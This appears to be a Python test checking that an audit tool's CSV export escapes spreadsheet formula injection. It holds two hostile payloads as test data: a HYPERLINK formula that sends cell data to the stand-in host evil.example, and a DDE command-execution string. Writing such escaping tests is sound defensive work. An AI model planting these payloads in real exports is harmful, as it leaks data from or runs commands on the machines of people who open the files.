"""``handover audit export --format csv`` never hands a spreadsheet a formula (issue 15): a
cell holding ticket or vendor text that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is written with a leading ``'`` (domain/escaping.py); JSON lines stay as
recorded."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

from domain.records import AuditEvent
from ledger import open_ledger
from ledger.audit import append
from tests.anchors import anchor_in

HANDOVER = str(Path(sys.executable).with_name("handover"))
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open ticket")'


def _export(url: str, fmt: str) -> str:
    env = {**os.environ, "HANDOVER_LEDGER_URL": url}
    out = subprocess.run(
        [HANDOVER, "audit", "export", "--format", fmt],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        check=True,
    )
    return out.stdout


def test_the_csv_export_writes_formulas_as_text(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    db = open_ledger(url, anchor=anchor_in(tmp_path))
    append(
        db,
        AuditEvent(
            action="onboard.rejected",
            subject=FORMULA,
            target="@SUM(1+1)*cmd|' /C calc'!A0",
            effect="-2+3",
            ticket="ACC-7",
            on_behalf_of="+1 555",
        ),
    )
    db.dispose()
    rows = list(csv.DictReader(io.StringIO(_export(url, "csv"))))
    (row,) = rows
    assert row["subject"] == "'" + FORMULA
    assert row["target"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["effect"] == "'-2+3" and row["on_behalf_of"] == "'+1 555"
    assert row["ticket"] == "ACC-7" and row["seq"] == "1"
    (line,) = _export(url, "jsonl").splitlines()
    assert json.loads(line)["subject"] == FORMULA  # the record itself is unchanged
